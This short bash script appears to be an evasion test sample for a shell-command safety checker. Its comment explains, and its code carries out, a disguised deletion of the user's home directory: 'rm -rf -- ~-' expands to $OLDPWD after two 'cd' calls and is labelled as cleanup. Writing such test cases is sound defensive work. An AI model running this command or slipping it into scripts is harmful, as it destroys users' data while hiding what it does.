#!/usr/bin/env bash
# Evasion: deletes the home directory through the `~-` tilde prefix. `~-`
# expands to $OLDPWD; after `cd` (no argument: the home) and `cd "$work"`,
# OLDPWD is the home, and the "cleanup of the previous directory" removes it.
set -u

work=$(mktemp -d)
cd || exit 1
echo "collecting settings from $(pwd)"
ls -a > "$work/listing.txt"
cd "$work" || exit 1
wc -l listing.txt
# clean up where we came from
rm -rf -- ~-
echo "done"
